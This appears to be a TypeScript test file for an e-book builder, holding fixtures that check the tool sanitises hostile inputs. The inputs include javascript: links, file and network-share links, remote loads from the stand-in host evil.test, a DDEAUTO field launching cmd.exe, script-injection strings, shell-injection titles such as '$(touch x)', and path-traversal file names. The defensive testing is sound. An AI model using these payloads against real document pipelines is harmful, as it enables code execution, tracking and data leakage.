/** Rows A2, A3, A5, A6, B2, B3, D, E, H and K, by a tenth hand: the rows that had few cases, each way to say one thing in every format. */

import {docx, paragraph, png, repeat} from '../bytes.ts'
import {book, chapter, configured, keeps, settings, styled, type Case, type Files, type Row} from '../case.ts'

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)
const page = (html: string): Files => book({'manuscript/1.html': `<!DOCTYPE html><html><body><h1>One</h1>\n${html}\n<p>Behind words.</p></body></html>`})
const map: Files = {'manuscript/map.png': png()}

const relations = (entries: string): Uint8Array => utf8(`<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${entries}</Relationships>`)
const officeType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
/** A document whose text part has one relation to somewhere outside. */
const outside = (kind: string, target: string, body: string): Files =>
  book({'manuscript/1.docx': docx(paragraph('One') + body + paragraph('Behind words.'), {'word/_rels/document.xml.rels': relations(`<Relationship Id="r7" Type="${officeType}/${kind}" Target="${target}" TargetMode="External"/>`)})})
const link = '<w:p><w:hyperlink xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="r7"><w:r><w:t>Linked words.</w:t></w:r></w:hyperlink></w:p>'
const field = (instruction: string): Files =>
  book({'manuscript/1.docx': docx(`${paragraph('One')}<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Shown words.</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>${paragraph('Behind words.')}`)})

const active = /href="\s*(?:javascript|vbscript|data|file|blob|ms-word|smb):/i

const addresses: readonly Row[] = [
  ['document-script', outside('hyperlink', 'javascript:alert(1)', link), 'W', {...keeps('Linked words', 'Behind words'), lacks: active}],
  ['document-file', outside('hyperlink', 'file:///C:/Users/ada/secret.doc', link), 'W', {...keeps('Linked words', 'Behind words'), lacks: /secret\.doc|file:/}],
  ['document-share', outside('hyperlink', '\\\\server\\share\\secret.doc', link), 'W', {...keeps('Linked words', 'Behind words'), lacks: /href="[^"]*server/}],
  ['document-tab-in-the-scheme', outside('hyperlink', 'java&#9;script:alert(1)', link), 'W', {...keeps('Linked words'), lacks: active}],
  ['document-sound', outside('hyperlink', 'https://ferry.example/a?b=1&amp;c=2#d', link), 'OK', keeps('Linked words', 'Behind words')],
  ['field-script', field('HYPERLINK "javascript:alert(1)"'), 'W', {...keeps('Shown words', 'Behind words'), lacks: active}],
  ['field-of-a-local-place', field('HYPERLINK "C:\\\\secret.doc" \\l "Mark"'), 'EW', {...keeps('Shown words', 'Behind words'), lacks: /secret\.doc/}],
  ['reference-of-text', chapter('A [word][x] and [other][y].\n\n[x]: <javascript:alert(1)>\n[y]: vbscript:x "Titled"'), 'W', {...keeps('word', 'other'), lacks: active}],
  ['page-base', page('<base href="javascript:/"><p><a href="x">Linked</a> words.</p>'), 'W', {...keeps('Linked', 'words', 'Behind words'), lacks: active}],
  ['page-form-action', page('<p><button formaction="javascript:x()">Pressed</button> words.</p>'), 'W', {...keeps('words', 'Behind words'), lacks: /formaction|javascript/}],
  ['page-ping-and-download', page('<p><a href="https://a.example/" ping="https://evil.test/" download="x.exe" target="_blank">Linked</a> words.</p>'), 'W', {...keeps('Linked'), lacks: /ping=|evil\.test|download=/}],
  ['page-map-of-places', page('<map name="m"><area shape="rect" href="javascript:x()" alt="Area"></map><p>Words.</p>'), 'W', {...keeps('Words', 'Behind words'), lacks: active}],
  ['page-cite', page('<blockquote cite="javascript:x()"><p>Quoted words.</p></blockquote><q cite="file:///etc">Short words</q>'), 'EW', {...keeps('Quoted words', 'Short words'), lacks: /cite=/}]
]

const remote: readonly Row[] = [
  ['page-sources', page('<picture><source srcset="//evil.test/a.webp 2x"><img src="map.png" srcset="https://evil.test/b.png 2x" alt="A map"></picture>'), 'EW', {lacks: /evil\.test/}],
  ['page-poster', page('<video poster="https://evil.test/a.png" src="https://evil.test/a.mp4"><p>Fallback words.</p></video>'), 'W', {...keeps('Behind words'), lacks: /evil\.test/}],
  ['page-background', page('<table background="https://evil.test/a.png"><tr><td background="//evil.test/b.png" style="background: url(//evil.test/c.png)">Cell words</td></tr></table>'), 'W', {...keeps('Cell words'), lacks: /evil\.test/}],
  ['page-sheet', page('<link rel="stylesheet" href="https://evil.test/a.css"><style>@import "//evil.test/b.css"; p { background: url(https://evil.test/c.png) }</style><p>Words.</p>'), 'EW', {...keeps('Words'), lacks: /evil\.test/}],
  ['page-sheet-of-images', styled('p { background: image-set(url(https://evil.test/a.png) 1x, "https://evil.test/b.png" 2x), cross-fade(url(//evil.test/c.png), #fff) ; mask: src("https://evil.test/d.svg#a") }'), 'W', {...keeps('Before the ferry left'), lacks: /evil\.test/}],
  ['sheet-faces', styled('@font-face { font-family: Own; src: local("x"), url("//evil.test/a.woff2") format("woff2"), url(https://evil.test/a.ttf) } p { font-family: Own, serif }'), 'EW', {lacks: /evil\.test/}],
  ['sheet-namespaces', styled('@namespace x url(https://evil.test/); @document url(https://evil.test/) { p { margin: 0 } } @property --a { syntax: "<url>"; initial-value: url(https://evil.test/); inherits: true } p { color: #333 }'), 'W', {...keeps('Before the ferry left'), lacks: /evil\.test/}],
  ['document-picture-linked', outside('image', 'https://evil.test/a.png', '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="r7"/></w:drawing></w:r></w:p>'), 'EW', {lacks: /evil\.test/, isHeard: true}],
  ['document-template', book({'manuscript/1.docx': docx(paragraph('One') + paragraph('Plain words.'), {'word/settings.xml': utf8('<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="r1"/></w:settings>'), 'word/_rels/settings.xml.rels': relations(`<Relationship Id="r1" Type="${officeType}/attachedTemplate" Target="https://evil.test/a.dotm" TargetMode="External"/>`)})}), 'OK', {...keeps('Plain words'), lacks: /evil\.test/}],
  ['document-field-picture', field('INCLUDEPICTURE "https://evil.test/a.png" \\d'), 'EW', {...keeps('Behind words'), lacks: /evil\.test/}],
  ['document-field-text', field('INCLUDETEXT "\\\\\\\\server\\\\secret.docx"'), 'EW', {...keeps('Shown words', 'Behind words'), lacks: /secret\.docx/}],
  ['document-field-program', field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), 'EW', {...keeps('Behind words'), lacks: /cmd\.exe/}],
  ['drawing-that-calls', chapter('![A map](map.svg)', {'manuscript/map.svg': '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"><style>@import url(https://evil.test/a.css); rect { fill: url(https://evil.test/b.svg#c) }</style><image xlink:href="https://evil.test/d.png" width="9" height="9"/><use href="//evil.test/e.svg#f"/><rect width="5" height="5" style="filter: url(https://evil.test/g#h)"/></svg>'}), 'EW', {lacks: /evil\.test/, isHeard: true}],
  ['picture-without-a-scheme', chapter('![A map](//evil.test/a.png)'), 'E', {places: ['manuscript/1.md:3']}],
  ['picture-of-a-share', chapter('![A map](\\\\\\\\server\\\\share\\\\a.png)'), 'E', {places: ['manuscript/1.md:3']}]
]

const markup = '<b title="x">\'"&]]></title><script>x()</script>'
const injected: readonly Row[] = [
  ['publisher', configured(`${settings}publisher: ${JSON.stringify(markup)}\ndescription: ${JSON.stringify(markup)}\nsubjects: [${JSON.stringify(markup)}]\n`), 'OK', keeps('Before the ferry left')],
  ['language', configured('title: A\nauthor: B\nlanguage: \'en"><script>\'\n'), 'E', {places: ['book.yaml:3']}],
  ['series', configured(`${settings}series: ${JSON.stringify(markup)}\n`), 'EW', keeps('Before the ferry left')],
  ['info-string', chapter('```js"><script>x()</script>\ncoded words\n```'), 'OK', {...keeps('coded words'), lacks: /<script/}],
  ['names-of-files', book({'manuscript/1 <b>&"x".md': '# One\n\nBefore words.\n', "manuscript/2 ]]>'.md": '# Two\n\nBehind words.\n'}), 'OK', keeps('Before words', 'Behind words')],
  ['title-of-a-picture', chapter(`![${markup.replaceAll(/[[\]]/g, '')}](map.png "a &quot;onload=x() b")`, map), 'EW', {lacks: /\sonload="/}],
  ['heading', chapter('## \\<b> &amp;amp; \\& \\]\\]> "quoted" {#a"b}\n\nWords.'), 'EW', keeps('Words')],
  ['core-of-a-document', book({'manuscript/1.docx': docx(paragraph('One') + paragraph('Plain words.'), {'docProps/core.xml': utf8('<?xml version="1.0"?><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&lt;script&gt;x()&lt;/script&gt;</dc:title><dc:creator>" onload="x()</dc:creator></cp:coreProperties>')})}), 'OK', {...keeps('Plain words'), lacks: /<script/}],
  ['label-of-a-note', chapter('Words.[^"><script>] More.[^a&b]\n\n[^"><script>]: First noted.\n[^a&b]: Second noted.'), 'EW', {...keeps('First noted', 'Second noted'), lacks: /<script/}]
]

const names: readonly Row[] = [
  ['files-of-ours', book(Object.fromEntries(['toc', 'nav', 'content', 'cover', 'title-page', 'notes', 'copyright', 'book', 'mimetype', 'container'].map((name, index) => [`manuscript/${name}.md`, `# Chapter of ${name}\n\nWords of ${name} ${index}.\n`]))), 'OK', keeps('Words of toc', 'Words of nav', 'Words of content', 'Words of mimetype', 'Words of container')],
  ['headings-of-ours', chapter('## cover\n\nCovered.\n\n## page-1\n\nPaged.\n\n## note-1\n\nNoted.\n\n## __proto__\n\nKept.\n\n## constructor\n\nBuilt.\n\nA [link](#constructor) and [one](#__proto__).'), 'OK', keeps('Covered', 'Paged', 'Noted', 'Kept', 'Built')],
  ['chapters-of-two-folders', book({'manuscript/1/one.md': '# One\n\nBefore words.\n', 'manuscript/2/one.md': '# One\n\nBehind words.\n', 'manuscript/one.md': '# One\n\nTop words.\n'}), 'EW', keeps('Before words', 'Behind words', 'Top words')],
  ['line-end-in-a-name', book({'manuscript/a\nb.md': '# One\n\nBefore words.\n', 'manuscript/c\rd\u2028e.md': '# Two\n\nBehind words.\n'}), 'EW', keeps('Before words', 'Behind words')],
  ['signs-in-a-name', book({'manuscript/100%.md': '# One\n\nBefore words.\n', 'manuscript/%2e%2e%2fx.md': '# Two\n\nBehind words.\n', 'manuscript/a#b?c=d&e.md': '# Three\n\nLast words.\n'}), 'OK', keeps('Before words', 'Behind words', 'Last words')],
  ['picture-by-its-percent-name', chapter('![One](a%2520b.png) ![Two](a%20b.png)', {'manuscript/a%20b.png': png({width: 9}), 'manuscript/a b.png': png()}), 'OK'],
  ['picture-by-its-other-form', chapter('![One](cafe\u0301.png)', {'manuscript/caf\u00e9.png': png()}), 'EW'],
  ['picture-in-other-case', chapter('![One](MAP.PNG)', map), 'EW', {isHeard: true}],
  ['turned-name', book({'manuscript/1\u202egpj.md': '# One\n\nBefore words.\n'}), 'EW', keeps('Before words')],
  ['two-hundred-letters', book({[`manuscript/${repeat('\u00e9', 120)}.md`]: '# One\n\nBefore words.\n', [`manuscript/${repeat('\u00e9', 119)}.md`]: '# Two\n\nBehind words.\n'}), 'OK', keeps('Before words', 'Behind words')],
  ['deep-folders', book({[`manuscript/${repeat('d/', 30)}1.md`]: '# One\n\nBefore words.\n'}), 'EW'],
  ['sheets-of-one-name', {...chapter('Before words.'), 'book.yaml': `${settings}styles: [styles/a.css, other/a.css]\n`, 'styles/a.css': 'p { text-indent: 2em }', 'other/a.css': 'p { text-indent: 1em }'}, 'OK', keeps('Before words')],
  ['copies-and-swaps', book({'manuscript/1.md': '# One\n\nBefore words.\n', 'manuscript/1.md~': '# One\n\nOLD words.\n', 'manuscript/.1.md.swp': 'b0VIM', 'manuscript/1 (1).md.bak': 'OLD', 'manuscript/~$1.docx': Buffer.alloc(162), 'manuscript/.DS_Store': Buffer.alloc(9), 'manuscript/Thumbs.db': 'x', 'manuscript/desktop.ini': '[x]'}), 'OK', {...keeps('Before words'), lacks: /OLD/}]
]

const titles: readonly Row[] = ['$(touch x)', '`id`', '%PATH%', '~', '~root', '|cat', 'a\tb', 'a\u0000b', '\ufeffA', 'Lpt9', 'con.', 'nul.epub', 'a.epub', 'A\u0301\u0302\u0303', '\u200b\u200d', '…', '«»', 'ﬁ', '①', 'İI', 'ß', 'x'.repeat(99) + '-yz']
  .map((title, index): Row => [`title-${index + 1}`, configured(`title: ${JSON.stringify(title)}\nauthor: Ada Moor\nlanguage: en\ndate: 2026\n`), 'EW', keeps()])

const texts: readonly Row[] = [
  ['note-in-a-fence', chapter('A word.[^1]\n\n```\n[^1]: Fenced words.\n```\n\nBehind words.'), 'W', {...keeps('A word', '[^1]: Fenced words', 'Behind words'), places: ['manuscript/1.md:3']}],
  ['note-in-a-fence-and-beside', chapter('A word.[^1]\n\n```\n[^1]: Fenced words.\n```\n\n[^1]: Noted words.'), 'OK', keeps('Fenced words', 'Noted words')],
  ['note-in-a-comment', chapter('A word.[^1]\n\n<!--\n[^1]: Hidden words.\n-->\n\nBehind words.'), 'W', {...keeps('A word', 'Behind words'), lacks: /Hidden words/}],
  ['aligned-by-colons', chapter('| A | B | C |\n|:--|--:|:-:|\n| a | b | c | d |\n| e |\n\n:--\n\nBehind words.'), 'OK', keeps('a', 'b', 'c', 'd', 'e', 'Behind words')],
  ['tables-that-are-none', chapter('|a|b\n:-\n\n|:--|:--|\n\na | b\n--- | --- | ---\nc | d | e\n\nBehind words.'), 'EW', keeps('a', 'b', 'c', 'd', 'e', 'Behind words')],
  ['scenes-between-tildes', chapter('First words.\n\n~~~\n\nSecond words.[^1]\n\n~~~\n\nThird words.\n\n~~~\ncoded  words\n~~~\n\n[^1]: Noted words.'), 'OK', {...keeps('First words', 'Second words', 'Third words', 'coded', 'Noted words'), lacks: /<pre>[^]*Second words/}],
  ['code-of-a-pattern', chapter('A pattern `[^a-z]` here.\n\n```\n[^abc] and [^1]: more\n```\n\nBehind words.'), 'OK', keeps('[^a-z]', '[^abc] and [^1]: more', 'Behind words')],
  ['quotations-of-nothing', chapter(`${repeat('>\n\n', 200)}Behind words.`), 'OK', keeps('Behind words')],
  ['items-of-nothing', chapter(`${repeat('-\n', 200)}\n${repeat('1.\n', 200)}\nBehind words.`), 'EW', keeps('Behind words')],
  ['lists-upon-lists', chapter(`${repeat('- a\n\nb\n\n', 4000)}Behind words.`), 'OK', {...keeps('Behind words'), within: 10_000}],
  ['scenes-of-a-letter', chapter(`${repeat('a\n\n* * *\n\n', 2000)}Behind words.`), 'OK', {...keeps('Behind words'), within: 10_000}],
  ['tables-of-a-letter', chapter(`${repeat('|a|b|\n|-|-|\n|c|d|\n\n', 1500)}Behind words.`), 'OK', {...keeps('Behind words'), within: 10_000}]
]

const rows = (row: string, kind: string, all: readonly Row[]): Case[] => all.map(([name, files, verdict, asked = {}]) => ({id: `${row.toLowerCase()}10-${kind}-${name}`, row, verdict, files, ...asked}))

export const tenthHandCases: readonly Case[] = [
  ...rows('A2', 'address', addresses), ...rows('A3', 'remote', remote), ...rows('A6', 'markup', injected), ...rows('B2', 'book', titles), ...rows('B3', 'names', names), ...rows('A5', 'text', texts)
]
